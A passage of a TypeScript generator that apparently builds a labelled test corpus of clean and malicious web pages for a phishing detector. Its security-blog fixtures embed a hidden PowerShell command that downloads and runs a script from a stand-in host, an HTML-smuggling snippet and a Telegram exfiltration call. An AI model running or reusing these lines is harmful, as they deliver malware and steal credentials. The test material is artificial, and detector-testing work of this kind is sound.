  return { label: 'clean', kind: 'docs-blog', host: site, path: pick(r, ['/', '/posts/' + Math.floor(r() * 1000), '/guide/intro']), body: page(topic, `<article><h1>${topic}</h1><p>${loremish(r, 8)}</p><pre><code>npm install ${pick(r, NEUTRAL_WORDS)}-sdk</code></pre><p>${loremish(r, 5)}</p><a href="https://github.com/">Source</a></article>${legacy}`) };
}

function shopCheckout(r: Rng): Gen {
  const shop = `${pick(r, NEUTRAL_WORDS)}${pick(r, ['store', 'shop', 'outfitters', 'books', 'coffee'])}.${pick(r, BENIGN_TLDS)}`;
  const isCheckout = r() < 0.55;
  const body = isCheckout
    ? `<h1>Checkout</h1><p>Order #${Math.floor(r() * 1e5)} — 2 items, 48.90</p><form method="post" action="/checkout/pay"><label>Name on card</label><input name="cc-name" autocomplete="cc-name"><label>Card number</label><input name="cardnumber" autocomplete="cc-number"><label>Expiry (MM/YY)</label><input name="exp" autocomplete="cc-exp"><label>CVC</label><input name="cvc" autocomplete="cc-csc"><button>Pay 48.90</button></form><p>Payments processed by Stripe. We accept Visa, Mastercard, PayPal and Apple Pay.</p>`
    : `<h1>${pick(r, ['New arrivals', 'Best sellers', 'Autumn collection'])}</h1>${Array.from({ length: 6 }, (_, i) => `<div class="p"><img src="/img/${i}.jpg" alt="Product ${i}"><b>${pick(r, NEUTRAL_WORDS)} ${pick(r, ['mug', 'jacket', 'notebook', 'lamp'])}</b> ${10 + i}.99 <button>Add to cart</button></div>`).join('')}<p>Ships with DHL and UPS. Pay with PayPal or Amazon Pay.</p><a href="/account/login">Sign in</a>`;
  return { label: 'clean', kind: isCheckout ? 'checkout' : 'shop', host: `www.${shop}`, path: isCheckout ? '/checkout' : '/', body: page(isCheckout ? `Checkout - ${shop}` : shop, body) };
}

function passwordHelp(r: Rng, brand: KitBrand): Gen {
  const site = `${pick(r, ['help', 'www', 'support'])}.${pick(r, NEUTRAL_WORDS)}${pick(r, ['tech', 'guides', 'howto'])}.${pick(r, BENIGN_TLDS)}`;
  return {
    label: 'clean',
    kind: 'password-help',
    host: site,
    path: `/articles/${brand.slug}-password-reset`,
    body: page(`How to reset your ${brand.name} password`, `<article><h1>How to reset your ${brand.name} password</h1><p>Forgot your ${brand.name} password? Go to ${brand.ownHost}, click "${T.en.forgot}" and follow the steps. ${brand.name} will send a verification code to your phone. Never enter your password on a site that is not ${brand.ownHost}.</p><img src="/img/${brand.slug}-login.png" alt="${brand.name} sign-in screen"><p>${loremish(r, 4)}</p></article>`),
  };
}

function securityBlog(r: Rng): Gen {
  const site = `${pick(r, ['research', 'blog', 'labs'])}.${pick(r, NEUTRAL_WORDS)}sec.${pick(r, BENIGN_TLDS)}`;
  const topic = Math.floor(r() * 4);
  const content = [
    `<h1>ClickFix: fake CAPTCHAs that make users run PowerShell</h1><p>The lure tells victims to press Win+R, then Ctrl+V and Enter. The clipboard holds a command such as:</p><pre><code>powershell -w hidden -c "iwr https://evil.example/c.ps1 | iex"</code></pre><p>Defenders should block mshta and monitor RunMRU.</p>`,
    `<h1>Analysing an HTML smuggling campaign</h1><p>The page builds a Blob from an atob() string and sets a.download = "invoice.iso". We show the code below:</p><pre>var blob = new Blob([bytes], {type: 'application/octet-stream'});\nnavigator.msSaveOrOpenBlob(blob, 'invoice.iso');</pre>`,
    `<h1>Inside a Telegram-based phishing kit</h1><p>Stolen credentials are posted to api.telegram.org/bot&lt;token&gt;/sendMessage. Kits impersonate Microsoft 365 and DHL. Indicators below.</p><pre>fetch("https://api.telegram.org/bot" + token + "/sendMessage")</pre>`,
    `<h1>Tech support scams in 2025</h1><p>Scam pages show a fake "Windows Defender" warning, play a beep and ask you to call a toll-free number such as +1-888-000-0000. Microsoft will never ask you to call.</p>`,
  ][topic]!;
  return { label: 'clean', kind: 'security-blog', host: site, path: `/posts/${Math.floor(r() * 1e4)}`, body: page(pick(r, ['Threat research', 'Blog']), `<article>${content}<p>${loremish(r, 3)}</p></article>`) };
}

function cryptoNews(r: Rng): Gen {
  const site = `${pick(r, ['www', 'news'])}.${pick(r, ['coin', 'chain', 'block'])}${pick(r, NEUTRAL_WORDS)}.${pick(r, BENIGN_TLDS)}`;
  const dapp = r() < 0.35;
  const body = dapp
    ? `<h1>${pick(r, NEUTRAL_WORDS)} swap</h1><button id="c">Connect wallet</button><script>document.getElementById("c").onclick=async()=>{if(!window.ethereum)return alert("Install a wallet");const accounts=await window.ethereum.request({method:"eth_requestAccounts"});document.getElementById("c").textContent=accounts[0].slice(0,8)}</script>`
    : `<article><h1>${pick(r, ['How to keep your seed phrase safe', 'MetaMask adds new approval warnings', 'Why token approvals are risky', 'Wallet drainers stole $50M this year'])}</h1><p>Never share your 12-word recovery phrase. Revoke unlimited approve() allowances and be wary of setApprovalForAll requests. MetaMask, Ledger and Trust Wallet all warn about permit signatures.</p><p>${loremish(r, 4)}</p></article>`;
  return { label: 'clean', kind: dapp ? 'dapp' : 'crypto-news', host: site, path: '/', body: page(dapp ? 'Swap' : 'Crypto news', body) };
}

function scaryScripts(r: Rng): Gen {
  const site = `www.${pick(r, NEUTRAL_WORDS)}${pick(r, ['media', 'games', 'apps', 'tools'])}.${pick(r, BENIGN_TLDS)}`;
  const variant = Math.floor(r() * 4);
  const script = [
    // A minified bundle with eval and packer-like shapes.
    `eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1=2;',3,3,'var|x|1'.split('|'),0,{}))`,
    // A base64 font and a base64 image.
    `var font="data:font/woff2;base64,${b64('wOF2' + 'x'.repeat(1500))}";var s=document.createElement("style");s.textContent="@font-face{font-family:x;src:url("+font+")}";document.head.appendChild(s);`,
    // A "copy code" button on a docs page.
    `document.querySelectorAll("pre").forEach(function(p){var b=document.createElement("button");b.textContent="Copy";b.onclick=function(){navigator.clipboard.writeText(p.innerText)};p.appendChild(b)});`,
    // A download page for the site's own app.
    `document.getElementById("dl").href="/releases/app-setup-"+(navigator.userAgent.indexOf("Win")>-1?"x64.exe":"universal.dmg");`,
  ][variant]!;
  const body = `<h1>${pick(r, ['Welcome', 'Downloads', 'Our tools'])}</h1><pre>npm i ${pick(r, NEUTRAL_WORDS)}</pre><a id="dl" href="/releases/app-setup-x64.exe">Download for Windows</a><p>${loremish(r, 3)}</p><script>${script}</script>`;
  return { label: 'clean', kind: 'scary-script', host: site, path: '/', body: page(pick(r, ['Downloads', 'Tools', 'Home']), body) };
}

function legitSupport(r: Rng): Gen {
  const useBrand = r() < 0.5;
  if (useBrand) {
    return { label: 'clean', kind: 'legit-support', host: 'support.microsoft.com', path: '/contactus', body: page('Contact Microsoft Support', `<h1>Contact Microsoft Support</h1><p>Get help with Windows, Office and your Microsoft account. Call 1-800-642-7676 (toll free). Microsoft will never display a warning asking you to call.</p>`) };
  }
  const shop = `${pick(r, NEUTRAL_WORDS)}pcrepair.${pick(r, BENIGN_TLDS)}`;
  return { label: 'clean', kind: 'legit-support', host: `www.${shop}`, path: '/', body: page('Computer repair in town', `<h1>Computer repair & virus removal</h1><p>Is your PC slow or infected with a virus? Call us at +1-555-${Math.floor(r() * 900 + 100)}-${Math.floor(r() * 9000 + 1000)} or visit the shop. We repair Windows and Mac computers.</p>`) };
}

function intranetHttpIp(r: Rng): Gen {
  const variant = Math.floor(r() * 2);
  if (variant === 0) return { label: 'clean', kind: 'ip-literal', host: '127.0.0.1', path: '/', body: page('Router admin', `<h1>Router status</h1><form method="post" action="/login.cgi"><input name="user"><input type="password" name="pass"><button>Login</button></form>`) };
  return { label: 'clean', kind: 'parcel-own', host: pick(r, ['www.dhl.com', 'www.ups.com', 'www.fedex.com']), path: '/track', body: page('Track your shipment', `<h1>Track your parcel</h1><form action="/track/result"><input name="tracking" placeholder="Tracking number"><button>Track</button></form><p>Customs duties may apply; pay only on the official site.</p>`) };
}

// ---------------------------------------------------------------- assembly

const MALICIOUS: [number, (r: Rng, b: KitBrand) => Gen][] = [
  [45, credentialKit],
  [16, otpCardKit],
  [10, (r) => webmailClone(r)],
  [12, obfuscatedKit],
  [12, (r) => clickFix(r)],
  [10, (r) => smuggling(r)],
  [4, (r) => malwareDownload(r)],
  [9, (r) => drainer(r)],
  [9, (r) => seedPhrase(r)],
  [10, (r) => techSupport(r)],
  [7, docLure],
  [5, cloakedKit],
  [6, redirectChain],
  [4, userinfoTrick],
  [4, punycodeKit],
];
const BENIGN: [number, (r: Rng, b: KitBrand) => Gen][] = [
  [18, (r) => companyLogin(r)],
  [20, brandOwnLogin],
  [12, (r) => blogOrDocs(r)],
  [12, (r) => shopCheckout(r)],
  [8, passwordHelp],
  [8, (r) => securityBlog(r)],
  [7, (r) => cryptoNews(r)],
  [8, (r) => scaryScripts(r)],
  [4, (r) => legitSupport(r)],
  [4, (r) => intranetHttpIp(r)],
];

function heldOut(id: string): boolean {
  return (createHash('sha256').update(`split:${id}`).digest()[0] ?? 0) < 64; // 25 %
}

export function buildCorpus(seed = 20261123): CorpusPage[] {
  const r = rng(seed);
  const out: CorpusPage[] = [];
  const usedHosts = new Set<string>();
  let brandCursor = 0;
  const nextBrand = (): KitBrand => BRANDS[brandCursor++ % BRANDS.length]!;
  const shuffled = shuffle(r, BRANDS);
  let benignBrandCursor = 0;
  for (const [list, benign] of [
    [MALICIOUS, false],
    [BENIGN, true],
  ] as const) {
    for (const [count, gen] of list) {
      for (let i = 0; i < count; i += 1) {
        const brand = benign ? shuffled[benignBrandCursor++ % shuffled.length]! : nextBrand();
        const g = gen(r, brand);
        // Benign pages on real brand hosts may repeat a host; kits get fresh hosts.
        let host = g.host;
        if (g.label !== 'clean' && usedHosts.has(host)) host = `${host.split('.')[0]}${i}.${host.split('.').slice(1).join('.')}`;
        usedHosts.add(host);
        const id = `${g.label}-${g.kind}-${out.length}`;
        // A per-page query keeps pages apart that share a real brand host and path.
        const path = g.extraRoutes ? g.path : `${g.path}${g.path.includes('?') ? '&' : '?'}n=${out.length}`;
        const url = `https://${host}${path}`;
        const routes: Record<string, Route> = { ...(g.extraRoutes ?? {}) };
        if (!g.extraRoutes) routes[`${host}${path}`] = html(g.body, g.headers);
        const entry: CorpusPage = { id, label: g.label, kind: g.kind, url, routes, heldOut: heldOut(id) };
        if (g.submittedUrl) entry.submittedUrl = g.submittedUrl.replace(g.host, host);
        out.push(entry);
      }
    }
  }
  return out;
}
